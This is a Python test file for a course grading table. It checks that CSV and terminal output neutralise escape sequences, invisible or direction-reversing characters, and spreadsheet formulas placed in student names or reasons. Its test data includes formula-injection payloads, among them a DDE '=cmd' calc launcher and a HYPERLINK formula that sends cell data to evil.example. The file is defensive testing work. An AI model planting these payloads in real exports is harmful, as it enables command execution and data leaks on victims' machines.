"""The table: whatever stands in a name or a reason, it commands no terminal and no spreadsheet."""

from __future__ import annotations

import csv
import io
import re
import unicodedata

import pytest

from course.files import write_whole
from course.grading.table import (
    FAILED,
    GRADED,
    MANY,
    MOST_CELL,
    MOST_SHOWN,
    PERSON,
    Row,
    as_csv,
    as_text,
    for_spreadsheet,
    for_terminal,
)

TASKS = {"attention": 3.0, "rope": 2.5}
COMMANDS = {
    "escape": "a\x1b[2Jb",
    "escape of eight bits": "a\x9b2Jb",
    "title": "\x1b]0;x\x07",
    "bell": "a\x07\x08\x7f",
    "null": "a\x00b",
    "back to the start": "failed\rgraded",
    "lines": "a\nbob  graded  20\r\nb\x0bc\x0cd\x85e\u2028f\u2029g",
    "tab": "a\tb",
    "turned": "a\u202egnp.txt\u202c \u2066b\u2069 \u200fc\u061c",
    "not seen": "a\u200bb\u2060c\ufeffd\u00ade\U000e0041f",
    "half a character": "a\ud800b\udc80",
}
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "＝1＋1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1",
    " =1",
    "\t=1",
    "\r=1",
    "\n=1",
    '"=1',
    "'=1",
    '" =1',
    "\u00a0=1",
    "\u3000=1",
    "\u200d=1",
    ";=1+1;",
    "a;=1+1;b",
    "a; =1",
    'a;"=1+1";b',
    "a;'=1",
    "a,=1,b",
    'a",=1,"b',
    'a";=1;"b',
    "a\t=1\tb",
    "a|=1",
    "a;;=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"press")',
    "a\n=1",
    "a;\u200b=1",
]
FORMULA = re.compile(r"[\s\"]*[-=+@＝＋－＠﹦]")


def row(text: str) -> Row:
    """With the text in every place."""
    return Row(text, text, text, {"attention": -1.5, "rope": 0}, text, [text, text], text, -1.5, changed=text)


def table(text: str) -> str:
    return as_csv([row(text), Row("bo", GRADED)], {**TASKS, text: 1.0})


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def commands(text: str) -> list[str]:
    """The characters of it that are no letters of a line."""
    joiners = "\u200c\u200d"
    return [char for char in text if unicodedata.category(char) in UNSEEN and char not in joiners]


UNSEEN = ("Cc", "Cf", "Cs", "Zl", "Zp")


@pytest.mark.parametrize("text", COMMANDS.values(), ids=list(COMMANDS))
def test_no_text_commands_a_terminal(text: str) -> None:
    rows = [row(text), Row("bo", GRADED)]
    for width in (1, 1000):
        shown = as_text(rows, {**TASKS, text: 1.0}, width)
        assert commands(shown.replace("\n", "")) == []
        assert len(shown.splitlines()) == len(
            as_text([row("x"), rows[1]], {**TASKS, "x": 1.0}, width).splitlines()
        )
    line = for_terminal(text)
    assert commands(line) == [] and "\\" in line  # it is seen that something was there


def test_what_was_there_is_seen() -> None:
    assert for_terminal("a\x1b[2Jb\n\u202e\ud800\x9b") == "a\\x1b[2Jb\\n\\u202e\\ud800\\x9b"
    assert for_terminal("张伟 Łukasz 👩\u200d🔬 é́ «ok» 'it'") == "张伟 Łukasz 👩\u200d🔬 é́ «ok» 'it'"


@pytest.mark.parametrize("text", [*FORMULAS, *COMMANDS.values()])
def test_no_text_is_a_formula(text: str) -> None:
    lines = read(table(text))
    assert [len(line) for line in lines] == [11, 11, 11]
    numbers = (3, 4, 5)
    for line in lines:
        for place, cell in enumerate(line):
            assert commands(cell) == []
            assert place in numbers or not FORMULA.match(cell)
    assert lines[1][3:5] == ["-1.5", "-1.5"]  # points stay numbers
    heads = lines[0]
    assert heads[:6] == ["student", "status", "reason", "total (6.5)", "attention (3)", "rope (2.5)"]


@pytest.mark.parametrize("separator", [";", "\t", "|", ",", ";,\t"])
@pytest.mark.parametrize("quotes", [True, False])
def test_no_part_is_a_formula_for_a_spreadsheet_that_splits_elsewhere(separator: str, quotes: bool) -> None:
    """Where a decimal point is a comma, spreadsheets split at semicolons; one can tell them any sign."""
    for text in FORMULAS:
        row_of_it = Row("ann", FAILED, text, None, text, [text], text)
        for line in as_csv([row_of_it], {text: 1.0}).splitlines():
            if not quotes:
                line = line.replace('"', "")
            for part in re.split(f"[{separator}]", line):
                assert not FORMULA.match(part), (text, part)


def test_text_is_quoted_and_numbers_are_not() -> None:
    rows = [Row("ann", GRADED, 'a "b", c', {"attention": 3, "rope": 0.5}, total=3.5), Row("bo", FAILED)]
    assert as_csv(rows, TASKS).splitlines() == [
        '"student","status","reason","total (5.5)","attention (3)","rope (2.5)","late","changed",'
        '"mended","file"',
        '"ann","graded","a ""b"", c",3.5,3,0.5,,,,',
        '"bo","failed",,,,,,,,',
    ]


def test_a_doubt_is_seen_among_many_who_wait_for_a_mark() -> None:
    waits = [Row(f"student{number}", PERSON, "to be marked: words") for number in range(MANY)]
    others = [Row("ann", PERSON, "to be marked: words; is it hers?"), Row("bob", FAILED, "it is empty")]
    told = as_text([*waits, *others], TASKS).partition("\n\n")[2].splitlines()
    assert told == [
        "ann: needs a person: to be marked: words; is it hers?",
        "bob: failed: it is empty",
        f"{MANY} students: needs a person: to be marked: words",
    ]
    [*told, ann, bob] = as_text([*waits[1:], *others], TASKS).partition("\n\n")[2].splitlines()
    assert told == [f"{row.student}: needs a person: to be marked: words" for row in waits[1:]]


def test_half_a_character_does_not_end_the_writing(tmp_path) -> None:
    path = tmp_path / "table.csv"
    write_whole(path, table("a\ud800\udcff"), encoding="utf-8-sig")
    assert "\\ud800\\udcff" in path.read_text(encoding="utf-8-sig")
    as_text([row("a\ud800")], TASKS).encode("utf-8")


@pytest.mark.parametrize("char", ["x", "\x1b", "\U000e0041", "=", '"'])
def test_long_text_is_cut(char: str) -> None:
    text = char * 1_000_000
    for cell in read(table(text))[1]:
        assert len(cell) < 32_767  # more does not go into Excel's cells
    for line in as_text([row(text)], TASKS).splitlines():
        assert len(line) < 10 * MOST_SHOWN
    assert "1,000,000" in for_terminal(text)
    assert for_terminal("x" * MOST_SHOWN) == "x" * MOST_SHOWN
    assert for_spreadsheet("x" * MOST_CELL) == "x" * MOST_CELL
